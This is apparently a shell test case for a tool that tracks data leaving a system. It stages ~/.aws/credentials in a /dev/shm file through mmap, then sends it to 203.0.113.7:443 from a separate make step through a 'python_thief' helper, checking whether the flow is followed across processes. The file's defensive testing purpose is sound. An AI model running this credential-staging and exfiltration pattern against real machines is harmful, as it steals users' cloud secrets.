# Two commands of the step share memory: a file that stays open, written by mmap
# expect: 86 203.0.113.7:443
# limit: what is written through a descriptor from before the read is not followed
. "$(dirname "$0")/../lib.sh"
cat >stage.py <<'X'
import mmap, os
fd = os.open("/dev/shm/trial-box", os.O_CREAT | os.O_RDWR)
os.ftruncate(fd, 4096)
m = mmap.mmap(fd, 4096)
d = open(os.path.expanduser("~/.aws/credentials"), "rb").read()
m[:len(d)] = d
X
python_thief /dev/shm/trial-box >send.py; printf 'a:\n\tpython3 stage.py\nb:\n\tpython3 send.py; rm /dev/shm/trial-box\n' >Makefile
step <<'X'
make a
make b
X
